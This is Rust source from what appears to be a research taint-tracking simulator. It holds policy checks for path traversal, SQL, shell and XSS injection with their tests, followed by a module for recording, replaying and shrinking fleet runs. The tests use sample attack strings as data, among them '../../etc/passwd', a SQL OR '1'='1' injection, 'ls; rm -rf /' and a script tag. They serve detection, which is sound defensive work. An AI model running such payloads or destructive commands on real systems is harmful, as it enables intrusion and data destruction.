        return Some("tainted absolute path".to_string());
    }
    None
}

/// Checks policy **H2**: tainted `..` components must not escape the
/// document root (the prefix of the path that is untainted).
///
/// The check resolves the path component by component and fires when the
/// depth goes negative through a *tainted* `..`.
pub fn check_h2_traversal(path: &TaintedBytes) -> PolicyVerdict {
    let mut depth: i64 = 0;
    let mut i = 0;
    let bytes = &path.bytes;
    while i < bytes.len() {
        // Find the next component [i, j).
        let j = bytes[i..].iter().position(|&b| b == b'/').map(|p| i + p).unwrap_or(bytes.len());
        let comp = &bytes[i..j];
        if comp == b".." {
            depth -= 1;
            if depth < 0 && path.any_tainted_in(i, 2) {
                return Some(format!(
                    "tainted `..` escapes the document root in {:?}",
                    String::from_utf8_lossy(bytes)
                ));
            }
        } else if !comp.is_empty() && comp != b"." {
            depth += 1;
        }
        i = j + 1;
    }
    None
}

/// Checks policy **H3**: no tainted SQL meta characters in a statement.
pub fn check_h3_sql(query: &TaintedBytes) -> PolicyVerdict {
    const META: &[u8] = b"'\";";
    for (i, &b) in query.bytes.iter().enumerate() {
        if META.contains(&b) && query.taint[i] {
            return Some(format!("tainted SQL meta character {:?}", b as char));
        }
    }
    None
}

/// Checks policy **H4**: no tainted shell meta characters in a command.
pub fn check_h4_shell(cmd: &TaintedBytes) -> PolicyVerdict {
    const META: &[u8] = b";|&`$><\n";
    for (i, &b) in cmd.bytes.iter().enumerate() {
        if META.contains(&b) && cmd.taint[i] {
            return Some(format!("tainted shell meta character {:?}", b as char));
        }
    }
    None
}

/// Checks policy **H5**: no tainted `<script` tag in HTML output.
pub fn check_h5_xss(html: &TaintedBytes) -> PolicyVerdict {
    const TAG: &[u8] = b"<script";
    if html.bytes.len() < TAG.len() {
        return None;
    }
    for i in 0..=html.bytes.len() - TAG.len() {
        let window = &html.bytes[i..i + TAG.len()];
        if window.eq_ignore_ascii_case(TAG) && html.any_tainted_in(i, TAG.len()) {
            return Some("tainted <script> tag in HTML output".to_string());
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tainted(bytes: &[u8]) -> TaintedBytes {
        TaintedBytes { bytes: bytes.to_vec(), taint: vec![true; bytes.len()] }
    }

    /// Taints only the given byte range.
    fn tainted_range(bytes: &[u8], range: std::ops::Range<usize>) -> TaintedBytes {
        let mut t = TaintedBytes::clean(bytes);
        for i in range {
            t.taint[i] = true;
        }
        t
    }

    #[test]
    fn h1_fires_only_on_tainted_leading_slash() {
        assert!(check_h1_absolute_path(&tainted(b"/etc/passwd")).is_some());
        // Benign absolute path built by the server itself.
        assert!(check_h1_absolute_path(&TaintedBytes::clean(b"/var/www/index.html")).is_none());
        // Tainted file name under an untainted root.
        assert!(check_h1_absolute_path(&tainted_range(b"/var/www/evil", 9..13)).is_none());
    }

    #[test]
    fn h2_fires_when_tainted_dotdot_escapes() {
        // docroot/<tainted ../../etc/passwd> — one real component, two `..`.
        let p = tainted_range(b"www/../../etc/passwd", 4..20);
        assert!(check_h2_traversal(&p).is_some());
        // A benign, balanced `..` that stays inside the root.
        let ok = tainted_range(b"www/sub/../index.html", 4..21);
        assert!(check_h2_traversal(&ok).is_none());
        // Untainted `..` escaping (the program's own path math) is allowed.
        assert!(check_h2_traversal(&TaintedBytes::clean(b"../x")).is_none());
    }

    #[test]
    fn h3_fires_on_tainted_quote_only() {
        let q = b"SELECT * FROM t WHERE name = 'bob'";
        // Quotes written by the program: fine.
        assert!(check_h3_sql(&TaintedBytes::clean(q)).is_none());
        // Attacker-supplied quote: violation.
        let mut inj = TaintedBytes::clean(b"SELECT * FROM t WHERE name = '' OR '1'='1'");
        for i in 30..inj.bytes.len() {
            inj.taint[i] = true;
        }
        assert!(check_h3_sql(&inj).is_some());
    }

    #[test]
    fn h4_fires_on_tainted_shell_metachar() {
        assert!(check_h4_shell(&tainted(b"ls; rm -rf /")).is_some());
        assert!(check_h4_shell(&TaintedBytes::clean(b"ls; echo fine")).is_none());
        assert!(check_h4_shell(&tainted(b"plainword")).is_none());
    }

    #[test]
    fn h5_fires_case_insensitively() {
        assert!(check_h5_xss(&tainted(b"<h1>x</h1><SCRIPT>alert(1)</SCRIPT>")).is_some());
        assert!(check_h5_xss(&TaintedBytes::clean(b"<script>trusted()</script>")).is_none());
        assert!(check_h5_xss(&tainted(b"no tags at all")).is_none());
    }

    #[test]
    fn catalogue_is_complete() {
        assert_eq!(Policy::ALL.len(), 8);
        for p in Policy::ALL {
            assert!(!p.description().is_empty());
            assert!(!p.attack_class().is_empty());
        }
        assert!(Policy::L2.is_low_level());
        assert!(!Policy::H3.is_low_level());
    }

    #[test]
    fn faults_map_to_low_level_policies() {
        assert_eq!(Policy::from_fault(NatFaultKind::LoadAddress), Policy::L1);
        assert_eq!(Policy::from_fault(NatFaultKind::StoreAddress), Policy::L2);
        assert_eq!(Policy::from_fault(NatFaultKind::StoreValue), Policy::L2);
        assert_eq!(Policy::from_fault(NatFaultKind::BranchMove), Policy::L3);
    }
}
