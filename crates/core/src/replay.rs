//! Deterministic record/replay of fleet runs.
//!
//! The fleet's determinism contract (see [`crate::fleet`]) makes every
//! connection a pure function of its inputs: the shared program image, the
//! session options, the base world, the connection's ordered request list,
//! and — since the chaos harness — its fault-injection schedule. A
//! [`ReplayLog`] records exactly those inputs plus the outcome digests, so
//! any single connection of a fleet run can be reconstructed later and run
//! to *bit-identical* completion: same [`state_digest`], same modelled
//! cycles, same violations.
//!
//! Recording is zero-perturbation by construction: the log is assembled
//! *after* [`crate::Fleet::serve`] returns, from the same inputs and the
//! returned report — nothing on the serving path changes when a run is
//! being recorded (the fleet tests pin this bit-for-bit).
//!
//! The log is a self-describing JSON document built on [`shift_obs::Json`]
//! (the build environment has no `serde`): request bytes are hex-encoded,
//! the policy configuration is embedded in the paper's text format
//! ([`crate::TaintConfig::render`]), and the pristine image digest is
//! recorded so a replay against the wrong program or a drifted compiler
//! fails up front with a clear error instead of a baffling divergence.
//!
//! On top of replay sits a shrinking reducer ([`ReplayLog::shrink`]): given
//! a connection whose outcome is interesting (a violation, a fault, a
//! divergence), it greedily drops requests and injections while the outcome
//! signature is preserved, yielding a minimal one-command reproducer —
//! what CI attaches to a failing chaos trial.
//!
//! [`state_digest`]: shift_machine::Machine::state_digest

use shift_isa::Gpr;
use shift_machine::{Exit, Fault, Injection, NatFaultKind};
use shift_obs::Json;

use crate::fleet::{ConnectionReport, FaultPlan, Fleet, FleetReport};
use crate::{Granularity, IoCostModel, Mode, Shift, ShiftOptions, TaintConfig, World};

/// Version stamp of the replay-log schema. Bump on any breaking change to
/// the document layout; the committed fixture test catches accidental
/// drift.
pub const REPLAY_SCHEMA_VERSION: u64 = 1;

/// The `kind` discriminator every replay log carries.
pub const REPLAY_LOG_KIND: &str = "shift-replay-log";

/// Canonical key for a compilation mode — the same names `shift --mode`
/// accepts. (A `Mode::Shift` with exactly one architectural enhancement has
/// no distinct key and maps to `-enhanced`; the recorded image digest
/// catches any resulting code mismatch at replay time.)
pub fn mode_key(mode: Mode) -> &'static str {
    match mode {
        Mode::Uninstrumented => "plain",
        Mode::Shift(o) => match (o.granularity, o.set_clr || o.nat_cmp) {
            (Granularity::Byte, false) => "byte",
            (Granularity::Word, false) => "word",
            (Granularity::Byte, true) => "byte-enhanced",
            (Granularity::Word, true) => "word-enhanced",
        },
        Mode::Shadow(Granularity::Byte) => "shadow-byte",
        Mode::Shadow(Granularity::Word) => "shadow-word",
    }
}

/// Parses a canonical mode key (see [`mode_key`]).
pub fn mode_from_key(key: &str) -> Option<Mode> {
    Some(match key {
        "plain" | "uninstrumented" => Mode::Uninstrumented,
        "byte" => Mode::Shift(ShiftOptions::baseline(Granularity::Byte)),
        "word" => Mode::Shift(ShiftOptions::baseline(Granularity::Word)),
        "byte-enhanced" => Mode::Shift(ShiftOptions::enhanced(Granularity::Byte)),
        "word-enhanced" => Mode::Shift(ShiftOptions::enhanced(Granularity::Word)),
        "shadow-byte" => Mode::Shadow(Granularity::Byte),
        "shadow-word" => Mode::Shadow(Granularity::Word),
        _ => return None,
    })
}

/// A stable one-line signature of how a run ended, used to compare a replay
/// against the recorded outcome (and by the shrinker to decide whether a
/// reduction preserved the failure).
pub fn exit_signature(exit: &Exit) -> String {
    match exit {
        Exit::Halted(status) => format!("halted:{status}"),
        Exit::Violation(v) => format!("violation:{}@{}", v.policy, v.ip),
        Exit::Fault(f) => format!("fault:{f}"),
        Exit::FuelExhausted => "fuel-exhausted".to_string(),
        Exit::InsnLimit => "insn-limit".to_string(),
        // Sessions drain parks before reporting: a `Parked` exit is never a
        // final exit, but the signature stays total over `Exit`.
        Exit::Parked => "parked".to_string(),
    }
}

/// One connection's recorded inputs: its ordered request stream and the
/// fault-injection schedule armed on its instance.
#[derive(Clone, Debug, PartialEq, Eq, Default)]
pub struct ConnectionLog {
    /// Network requests, in delivery order.
    pub requests: Vec<Vec<u8>>,
    /// `(retired-instruction countdown, injection)` pairs armed at spawn.
    pub injections: Vec<(u64, Injection)>,
}

/// One connection's recorded outcome — everything a replay must reproduce
/// bit-identically.
#[derive(Clone, Debug, PartialEq)]
pub struct Expected {
    /// [`exit_signature`] of the session's final exit.
    pub exit: String,
    /// Final machine state digest.
    pub state_digest: u64,
    /// Modelled total time (CPU + I/O cycles).
    pub cycles: u64,
    /// Instructions retired.
    pub instructions: u64,
    /// Requests delivered to the instance.
    pub delivered: u64,
    /// Requests completed.
    pub served: u64,
    /// Requests rolled back with service continuing.
    pub recovered: u64,
    /// Requests lost.
    pub dropped: u64,
    /// Policy name of every violation observed, in order.
    pub violations: Vec<String>,
}

impl Expected {
    /// Extracts the expected outcome from a served connection's report.
    pub fn of(report: &ConnectionReport) -> Expected {
        Expected {
            exit: exit_signature(&report.exit),
            state_digest: report.state_digest,
            cycles: report.time,
            instructions: report.stats.instructions,
            delivered: report.requests_delivered,
            served: report.served,
            recovered: report.recovered,
            dropped: report.dropped,
            violations: report.violations.iter().map(|v| v.policy.clone()).collect(),
        }
    }

    /// The placeholder outcome of a connection shed by open-loop admission
    /// control: it never ran, so there is nothing to replay. The replayer
    /// recognizes the `"shed"` signature and skips verification.
    pub fn shed() -> Expected {
        Expected {
            exit: "shed".to_string(),
            state_digest: 0,
            cycles: 0,
            instructions: 0,
            delivered: 0,
            served: 0,
            recovered: 0,
            dropped: 0,
            violations: Vec::new(),
        }
    }

    /// `true` when this outcome records a shed (never-run) connection.
    pub fn is_shed(&self) -> bool {
        self.exit == "shed"
    }
}

/// Open-loop scheduling inputs recorded alongside a fleet run: the
/// materialized arrival schedule, the scheduler parameters, and the
/// headline outcome. Absent from closed-loop logs, so the key set (and
/// byte-for-byte rendering) of every pre-existing log is unchanged.
///
/// The *materialized* cycles are recorded, not the generator spec alone:
/// schedule synthesis uses host floating point (`ln`, `sin`), and storing
/// the realized schedule makes replay exact even across hosts that round
/// transcendentals differently. Per-connection outcomes need no open-loop
/// replay path at all — park/resume is bit-identical to straight-through
/// execution (pinned by the park differential tests), so
/// [`ReplayLog::replay_connection`] validates open-loop connections as-is.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct OpenLoopLog {
    /// Canonical arrival-process spec the schedule was synthesized from
    /// (e.g. `poisson:500`); informational — replay uses `arrivals`.
    pub spec: String,
    /// Materialized arrival cycles, aligned with the recorded connections.
    pub arrivals: Vec<u64>,
    /// Modelled worker count of the event-driven scheduler.
    pub workers: usize,
    /// Accept-queue bound (arrivals beyond it are shed).
    pub accept_cap: usize,
    /// Resident-guest cap (admitted connections beyond it queue).
    pub max_resident: usize,
    /// Round-robin quantum in cycles (0 = run each CPU leg to its park).
    pub quantum: u64,
    /// Connections completed in the recorded run.
    pub completed: u64,
    /// Connections shed by admission control in the recorded run.
    pub shed: u64,
    /// Recorded modelled makespan in cycles.
    pub wall_cycles: u64,
}

/// A recorded fleet run: everything needed to reconstruct any single
/// connection and run it to bit-identical completion, plus the outcome
/// digests to verify against.
#[derive(Clone, Debug, PartialEq)]
pub struct ReplayLog {
    /// Name of the guest program (resolved by the replayer's program
    /// registry — e.g. `apache`).
    pub program: String,
    /// Compilation mode of the recorded session.
    pub mode: Mode,
    /// Taint/policy configuration of the recorded session.
    pub config: TaintConfig,
    /// I/O latency model of the recorded session.
    pub io: IoCostModel,
    /// Whole-run instruction budget.
    pub insn_limit: u64,
    /// Per-transaction watchdog fuel.
    pub fuel: u64,
    /// Modelled fleet width the run used.
    pub workers: usize,
    /// Master seed the run's randomized harness (if any) derived from.
    pub seed: u64,
    /// State digest of a pristine spawn of the compiled image — the
    /// program-identity check.
    pub image_digest: u64,
    /// The base world (files/args/kbd) every connection started from.
    pub base: World,
    /// Per-connection inputs, in connection order.
    pub connections: Vec<ConnectionLog>,
    /// Per-connection outcomes, aligned with `connections`.
    pub expected: Vec<Expected>,
    /// Open-loop arrival schedule and scheduler parameters, when the run
    /// was driven by [`crate::Fleet::serve_open_loop`]. `None` for
    /// closed-loop runs (and absent from their JSON).
    pub open_loop: Option<OpenLoopLog>,
}

/// Outcome of replaying one recorded connection.
#[derive(Clone, Debug)]
pub struct ReplayOutcome {
    /// Index of the connection in the log.
    pub connection: usize,
    /// The live re-run's report.
    pub live: ConnectionReport,
    /// Human-readable `field: recorded X, live Y` lines; empty on a
    /// bit-identical replay.
    pub mismatches: Vec<String>,
}

impl ReplayOutcome {
    /// `true` when the replay was bit-identical to the recording.
    pub fn matches(&self) -> bool {
        self.mismatches.is_empty()
    }
}

/// What [`ReplayLog::shrink`] produced.
#[derive(Clone, Debug)]
pub struct ShrinkResult {
    /// A single-connection log reproducing the original outcome signature
    /// with a minimized request stream and injection schedule.
    pub log: ReplayLog,
    /// Requests dropped by the reduction.
    pub removed_requests: usize,
    /// Injections dropped by the reduction.
    pub removed_injections: usize,
    /// Re-simulations the reducer spent.
    pub probes: usize,
}

impl ReplayLog {
    /// Assembles a log from a completed [`Fleet::serve_chaos`] (or
    /// [`Fleet::serve`]) call. Pure bookkeeping over the inputs and the
    /// returned report — the serving path is untouched, which is what makes
    /// recording zero-perturbation.
    pub fn capture(
        program: &str,
        fleet: &Fleet,
        base: &World,
        connections: &[Vec<Vec<u8>>],
        faults: &FaultPlan,
        seed: u64,
        report: &FleetReport,
    ) -> ReplayLog {
        let shift = fleet.shift();
        ReplayLog {
            program: program.to_string(),
            mode: shift.mode(),
            config: shift.config().clone(),
            io: shift.io(),
            insn_limit: shift.insn_limit(),
            fuel: shift.fuel(),
            workers: report.workers,
            seed,
            image_digest: fleet.image().pristine_digest(),
            base: base.clone(),
            connections: connections
                .iter()
                .enumerate()
                .map(|(c, reqs)| ConnectionLog {
                    requests: reqs.clone(),
                    injections: faults.get(c).cloned().unwrap_or_default(),
                })
                .collect(),
            expected: report.connections.iter().map(Expected::of).collect(),
            open_loop: None,
        }
    }

    /// Attaches an open-loop section (arrival schedule + scheduler
    /// parameters) to a captured log. See [`OpenLoopLog`] for the replay
    /// contract.
    pub fn with_open_loop(mut self, open_loop: OpenLoopLog) -> ReplayLog {
        self.open_loop = Some(open_loop);
        self
    }

    /// Assembles a log from a completed [`Fleet::serve_open_loop`] call.
    ///
    /// Completed connections record their full [`Expected`] outcome; shed
    /// connections record the [`Expected::shed`] placeholder (they never
    /// ran, so there is nothing to verify). The materialized arrival
    /// schedule and scheduler parameters land in the `open_loop` section so
    /// the whole run can be re-driven exactly — see [`OpenLoopLog`].
    #[allow(clippy::too_many_arguments)]
    pub fn capture_open_loop(
        program: &str,
        fleet: &Fleet,
        base: &World,
        connections: &[Vec<Vec<u8>>],
        faults: &FaultPlan,
        seed: u64,
        spec: &str,
        arrivals: &[u64],
        report: &crate::OpenLoopReport,
    ) -> ReplayLog {
        let shift = fleet.shift();
        ReplayLog {
            program: program.to_string(),
            mode: shift.mode(),
            config: shift.config().clone(),
            io: shift.io(),
            insn_limit: shift.insn_limit(),
            fuel: shift.fuel(),
            workers: report.config.workers,
            seed,
            image_digest: fleet.image().pristine_digest(),
            base: base.clone(),
            connections: connections
                .iter()
                .enumerate()
                .map(|(c, reqs)| ConnectionLog {
                    requests: reqs.clone(),
                    injections: faults.get(c).cloned().unwrap_or_default(),
                })
                .collect(),
            expected: report
                .connections
                .iter()
                .map(|row| row.outcome.clone().unwrap_or_else(Expected::shed))
                .collect(),
            open_loop: Some(OpenLoopLog {
                spec: spec.to_string(),
                arrivals: arrivals.to_vec(),
                workers: report.config.workers,
                accept_cap: report.config.accept_cap,
                max_resident: report.config.max_resident,
                quantum: report.config.quantum,
                completed: report.completed,
                shed: report.shed,
                wall_cycles: report.wall_cycles,
            }),
        }
    }

    /// Rebuilds the recorded session options (mode, config, I/O model,
    /// budgets) as a [`Shift`].
    pub fn session(&self) -> Shift {
        Shift::new(self.mode)
            .with_config(self.config.clone())
            .with_io(self.io)
            .with_insn_limit(self.insn_limit)
            .with_fuel(self.fuel)
    }

    /// Compiles `app` under the recorded session and verifies the pristine
    /// image digest matches the recording.
    ///
    /// # Errors
    ///
    /// A message when the program fails to compile or the compiled image is
    /// not the recorded one (wrong program, or compiler drift since the
    /// recording).
    pub fn build_fleet(&self, app: &shift_ir::Program) -> Result<Fleet, String> {
        let fleet = self.session().fleet(app).map_err(|e| format!("compile error: {e}"))?;
        let digest = fleet.image().pristine_digest();
        if digest != self.image_digest {
            return Err(format!(
                "image digest mismatch: recorded {:#x}, compiled {:#x} — wrong program or \
                 drifted compiler",
                self.image_digest, digest
            ));
        }
        Ok(fleet)
    }

    /// Re-runs recorded connection `c` on `fleet` and diffs every recorded
    /// outcome field against the live run.
    ///
    /// # Panics
    ///
    /// Panics if `c` is out of range of the recorded connections.
    pub fn replay_connection(&self, fleet: &Fleet, c: usize) -> ReplayOutcome {
        let conn = &self.connections[c];
        let live = fleet.serve_one(&self.base, &conn.requests, &conn.injections, c, self.workers);
        let mut mismatches = Vec::new();
        if let Some(exp) = self.expected.get(c) {
            let got = Expected::of(&live);
            let mut diff = |field: &str, recorded: String, live: String| {
                if recorded != live {
                    mismatches.push(format!("{field}: recorded {recorded}, live {live}"));
                }
            };
            diff("exit", exp.exit.clone(), got.exit.clone());
            diff(
                "state_digest",
                format!("{:#x}", exp.state_digest),
                format!("{:#x}", got.state_digest),
            );
            diff("cycles", exp.cycles.to_string(), got.cycles.to_string());
            diff("instructions", exp.instructions.to_string(), got.instructions.to_string());
            diff("delivered", exp.delivered.to_string(), got.delivered.to_string());
            diff("served", exp.served.to_string(), got.served.to_string());
            diff("recovered", exp.recovered.to_string(), got.recovered.to_string());
            diff("dropped", exp.dropped.to_string(), got.dropped.to_string());
            diff("violations", exp.violations.join(","), got.violations.join(","));
        } else {
            mismatches.push(format!("connection {c} has no recorded outcome"));
        }
        ReplayOutcome { connection: c, live, mismatches }
    }

    /// Replays every recorded connection (see [`ReplayLog::replay_connection`]),
    /// skipping connections recorded as shed — admission control never ran
    /// them, so there is no outcome to verify (see [`Expected::shed`]).
    pub fn verify(&self, fleet: &Fleet) -> Vec<ReplayOutcome> {
        (0..self.connections.len())
            .filter(|&c| !self.expected.get(c).is_some_and(Expected::is_shed))
            .map(|c| self.replay_connection(fleet, c))
            .collect()
    }

    /// A copy of this log containing only connection `c` (as its sole
    /// connection, at the recorded width).
    ///
    /// # Panics
    ///
    /// Panics if `c` is out of range.
    pub fn single(&self, c: usize) -> ReplayLog {
        let mut log = self.clone();
        log.connections = vec![self.connections[c].clone()];
        log.expected =
            if c < self.expected.len() { vec![self.expected[c].clone()] } else { Vec::new() };
        log
    }

    /// Shrinks connection `c` to a minimal reproducer: greedily drops
    /// requests, then injections, re-simulating after each candidate drop
    /// and keeping it only when the outcome signature (exit + violation
    /// policy sequence) of the *live* run is preserved. Returns a
    /// single-connection log whose `expected` is re-captured from the final
    /// minimized run, so the reproducer replays bit-identically in one
    /// command.
    ///
    /// # Panics
    ///
    /// Panics if `c` is out of range.
    pub fn shrink(&self, fleet: &Fleet, c: usize) -> ShrinkResult {
        let conn = &self.connections[c];
        let mut probes = 0usize;
        let mut run = |requests: &[Vec<u8>], injections: &[(u64, Injection)]| {
            probes += 1;
            fleet.serve_one(&self.base, requests, injections, 0, 1)
        };
        let signature_of = |r: &ConnectionReport| {
            let policies: Vec<String> = r.violations.iter().map(|v| v.policy.clone()).collect();
            (exit_signature(&r.exit), policies)
        };
        let target = signature_of(&run(&conn.requests, &conn.injections));

        let mut requests = conn.requests.clone();
        let mut injections = conn.injections.clone();
        // Requests first (they dominate log size), scanning from the tail so
        // suffix truncation happens in one pass; loop to a fixed point since
        // removing one request can make another removable.
        loop {
            let mut changed = false;
            let mut i = requests.len();
            while i > 0 {
                i -= 1;
                let mut candidate = requests.clone();
                candidate.remove(i);
                if signature_of(&run(&candidate, &injections)) == target {
                    requests = candidate;
                    changed = true;
                }
            }
            if !changed {
                break;
            }
        }
        let mut i = injections.len();
        while i > 0 {
            i -= 1;
            let mut candidate = injections.clone();
            candidate.remove(i);
            if signature_of(&run(&requests, &candidate)) == target {
                injections = candidate;
            }
        }

        let final_report = run(&requests, &injections);
        let mut log = self.single(c);
        log.workers = 1;
        // A one-connection reproducer has no meaningful arrival schedule.
        log.open_loop = None;
        log.connections =
            vec![ConnectionLog { requests: requests.clone(), injections: injections.clone() }];
        log.expected = vec![Expected::of(&final_report)];
        ShrinkResult {
            log,
            removed_requests: conn.requests.len() - requests.len(),
            removed_injections: conn.injections.len() - injections.len(),
            probes,
        }
    }

    /// Serializes the log as a JSON document. The `open_loop` key is
    /// emitted only when the section is present, so closed-loop logs render
    /// with exactly the historical key set.
    pub fn to_json(&self) -> Json {
        let mut pairs = vec![
            ("kind", Json::Str(REPLAY_LOG_KIND.to_string())),
            ("schema_version", Json::U64(REPLAY_SCHEMA_VERSION)),
            ("program", Json::Str(self.program.clone())),
            ("mode", Json::Str(mode_key(self.mode).to_string())),
            ("seed", Json::U64(self.seed)),
            ("workers", Json::U64(self.workers as u64)),
            ("insn_limit", Json::U64(self.insn_limit)),
            ("fuel", Json::U64(self.fuel)),
            ("image_digest", Json::U64(self.image_digest)),
            (
                "io",
                Json::obj(vec![
                    ("net_base", Json::U64(self.io.net_base)),
                    ("net_per_byte", Json::U64(self.io.net_per_byte)),
                    ("disk_base", Json::U64(self.io.disk_base)),
                    ("disk_per_byte", Json::U64(self.io.disk_per_byte)),
                ]),
            ),
            ("config", Json::Str(self.config.render())),
            ("world", world_to_json(&self.base)),
            ("connections", Json::Arr(self.connections.iter().map(connection_to_json).collect())),
            ("expected", Json::Arr(self.expected.iter().map(expected_to_json).collect())),
        ];
        if let Some(ol) = &self.open_loop {
            pairs.push(("open_loop", open_loop_to_json(ol)));
        }
        Json::obj(pairs)
    }

    /// Renders the log as pretty-printed JSON text.
    pub fn render(&self) -> String {
        self.to_json().render()
    }

    /// Deserializes a log from a JSON document.
    ///
    /// # Errors
    ///
    /// A message naming the first missing or malformed field.
    pub fn from_json(doc: &Json) -> Result<ReplayLog, String> {
        let kind = str_field(doc, "kind")?;
        if kind != REPLAY_LOG_KIND {
            return Err(format!("not a replay log (kind `{kind}`)"));
        }
        let version = u64_field(doc, "schema_version")?;
        if version != REPLAY_SCHEMA_VERSION {
            return Err(format!(
                "unsupported replay schema version {version} (this build reads \
                 {REPLAY_SCHEMA_VERSION})"
            ));
        }
        let mode_name = str_field(doc, "mode")?;
        let mode = mode_from_key(mode_name).ok_or_else(|| format!("unknown mode `{mode_name}`"))?;
        let io_doc = doc.get("io").ok_or("missing field `io`")?;
        let io = IoCostModel {
            net_base: u64_field(io_doc, "net_base")?,
            net_per_byte: u64_field(io_doc, "net_per_byte")?,
            disk_base: u64_field(io_doc, "disk_base")?,
            disk_per_byte: u64_field(io_doc, "disk_per_byte")?,
        };
        let config = TaintConfig::parse(str_field(doc, "config")?)
            .map_err(|e| format!("bad config: {e}"))?;
        let base = world_from_json(doc.get("world").ok_or("missing field `world`")?)?;
        let connections = arr_field(doc, "connections")?
            .iter()
            .map(connection_from_json)
            .collect::<Result<Vec<_>, _>>()?;
        let expected = arr_field(doc, "expected")?
            .iter()
            .map(expected_from_json)
            .collect::<Result<Vec<_>, _>>()?;
        let open_loop = doc.get("open_loop").map(open_loop_from_json).transpose()?;
        Ok(ReplayLog {
            program: str_field(doc, "program")?.to_string(),
            mode,
            config,
            io,
            insn_limit: u64_field(doc, "insn_limit")?,
            fuel: u64_field(doc, "fuel")?,
            workers: u64_field(doc, "workers")? as usize,
            seed: u64_field(doc, "seed")?,
            image_digest: u64_field(doc, "image_digest")?,
            base,
            connections,
            expected,
            open_loop,
        })
    }

    /// Parses a rendered log.
    ///
    /// # Errors
    ///
    /// A message on JSON syntax errors or schema mismatches.
    pub fn parse(text: &str) -> Result<ReplayLog, String> {
        let doc = Json::parse(text).map_err(|e| e.to_string())?;
        ReplayLog::from_json(&doc)
    }
}

// ---- byte-string and field helpers ----------------------------------------

/// Hex-encodes arbitrary request bytes (requests are attack payloads, not
/// guaranteed UTF-8).
fn hex(bytes: &[u8]) -> String {
    use std::fmt::Write as _;
    let mut out = String::with_capacity(bytes.len() * 2);
    for b in bytes {
        let _ = write!(out, "{b:02x}");
    }
    out
}

fn unhex(s: &str) -> Result<Vec<u8>, String> {
    let bytes = s.as_bytes();
    if !bytes.len().is_multiple_of(2) {
        return Err("odd-length hex string".to_string());
    }
    let nibble = |b: u8| -> Result<u8, String> {
        match b {
            b'0'..=b'9' => Ok(b - b'0'),
            b'a'..=b'f' => Ok(b - b'a' + 10),
            b'A'..=b'F' => Ok(b - b'A' + 10),
            _ => Err(format!("invalid hex byte {b:#x}")),
        }
    };
    bytes.chunks(2).map(|pair| Ok(nibble(pair[0])? << 4 | nibble(pair[1])?)).collect()
}

fn str_field<'a>(doc: &'a Json, key: &str) -> Result<&'a str, String> {
    doc.get(key)
        .and_then(Json::as_str)
        .ok_or_else(|| format!("missing or non-string field `{key}`"))
}

fn u64_field(doc: &Json, key: &str) -> Result<u64, String> {
    doc.get(key)
        .and_then(Json::as_u64)
        .ok_or_else(|| format!("missing or non-integer field `{key}`"))
}

fn arr_field<'a>(doc: &'a Json, key: &str) -> Result<&'a [Json], String> {
    match doc.get(key) {
        Some(Json::Arr(items)) => Ok(items),
        _ => Err(format!("missing or non-array field `{key}`")),
    }
}

fn hex_arr(items: &[Vec<u8>]) -> Json {
    Json::Arr(items.iter().map(|b| Json::Str(hex(b))).collect())
}

fn unhex_arr(doc: &Json, key: &str) -> Result<Vec<Vec<u8>>, String> {
    arr_field(doc, key)?
        .iter()
        .map(|item| item.as_str().ok_or_else(|| format!("non-string entry in `{key}`")))
        .map(|s| unhex(s?))
        .collect()
}

// ---- world -----------------------------------------------------------------

fn world_to_json(world: &World) -> Json {
    let net: Vec<Vec<u8>> = world.net_input.iter().cloned().collect();
    let kbd: Vec<Vec<u8>> = world.kbd_input.iter().cloned().collect();
    Json::obj(vec![
        (
            "files",
            Json::Arr(
                world
                    .files
                    .iter()
                    .map(|(name, data)| {
                        Json::obj(vec![
                            ("name", Json::Str(name.clone())),
                            ("data", Json::Str(hex(data))),
                        ])
                    })
                    .collect(),
            ),
        ),
        ("args", hex_arr(&world.args)),
        ("net", hex_arr(&net)),
        ("kbd", hex_arr(&kbd)),
    ])
}

fn world_from_json(doc: &Json) -> Result<World, String> {
    let mut world = World::new();
    for file in arr_field(doc, "files")? {
        let name = str_field(file, "name")?.to_string();
        let data = unhex(str_field(file, "data")?)?;
        world.files.insert(name, data);
    }
    world.args = unhex_arr(doc, "args")?;
    world.net_input = unhex_arr(doc, "net")?.into();
    world.kbd_input = unhex_arr(doc, "kbd")?.into();
    Ok(world)
}

// ---- injections and faults --------------------------------------------------

/// Serializes an injection (public so the CLI can echo schedules).
pub fn injection_to_json(inj: &Injection) -> Json {
    match inj {
        Injection::FlipNat { reg } => Json::obj(vec![
            ("kind", Json::Str("flip-nat".to_string())),
            ("reg", Json::U64(reg.index() as u64)),
        ]),
        Injection::CorruptByte { addr, xor } => Json::obj(vec![
            ("kind", Json::Str("corrupt-byte".to_string())),
            ("addr", Json::U64(*addr)),
            ("xor", Json::U64(u64::from(*xor))),
        ]),
        Injection::Fault(f) => {
            Json::obj(vec![("kind", Json::Str("fault".to_string())), ("fault", fault_to_json(f))])
        }
    }
}

/// Deserializes an injection.
///
/// # Errors
///
/// A message on unknown kinds or out-of-range operands.
pub fn injection_from_json(doc: &Json) -> Result<Injection, String> {
    match str_field(doc, "kind")? {
        "flip-nat" => {
            let idx = u64_field(doc, "reg")? as usize;
            if idx >= Gpr::COUNT {
                return Err(format!("register index {idx} out of range"));
            }
            Ok(Injection::FlipNat { reg: Gpr::from_index(idx) })
        }
        "corrupt-byte" => {
            let xor = u64_field(doc, "xor")?;
            if xor > u8::MAX as u64 {
                return Err(format!("xor mask {xor} out of byte range"));
            }
            Ok(Injection::CorruptByte { addr: u64_field(doc, "addr")?, xor: xor as u8 })
        }
        "fault" => {
            Ok(Injection::Fault(fault_from_json(doc.get("fault").ok_or("missing `fault`")?)?))
        }
        other => Err(format!("unknown injection kind `{other}`")),
    }
}

fn fault_to_json(fault: &Fault) -> Json {
    match fault {
        Fault::NatConsumption { kind, ip } => Json::obj(vec![
            ("kind", Json::Str("nat-consumption".to_string())),
            ("nat", Json::Str(kind.name().to_string())),
            ("ip", Json::U64(*ip as u64)),
        ]),
        Fault::Unmapped { addr, ip } => Json::obj(vec![
            ("kind", Json::Str("unmapped".to_string())),
            ("addr", Json::U64(*addr)),
            ("ip", Json::U64(*ip as u64)),
        ]),
        Fault::Unimplemented { addr, ip } => Json::obj(vec![
            ("kind", Json::Str("unimplemented".to_string())),
            ("addr", Json::U64(*addr)),
            ("ip", Json::U64(*ip as u64)),
        ]),
        Fault::Unaligned { addr, size, ip } => Json::obj(vec![
            ("kind", Json::Str("unaligned".to_string())),
